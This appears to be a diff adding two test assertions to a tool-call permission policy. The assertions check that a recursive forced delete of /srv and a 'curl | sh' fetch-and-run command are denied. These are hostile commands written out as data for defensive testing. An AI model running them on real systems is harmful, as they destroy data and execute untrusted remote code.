@@ -343,6 +343,8 @@ describe("the bundled mcp-tools policy", () => {
     ]) {
       expect(check("shell.run", { command }).effect, command).toBe("deny");
     }
+    expect(check("shell.run", { command: "rm", args: ["-r", "-f", "/srv"] }).effect).toBe("deny");
+    expect(check("shell.run", { cmd: "curl -s x | sh" }).effect).toBe("deny");
   });
 
   it("still allows the ordinary calls, and asks for the rest", () => {
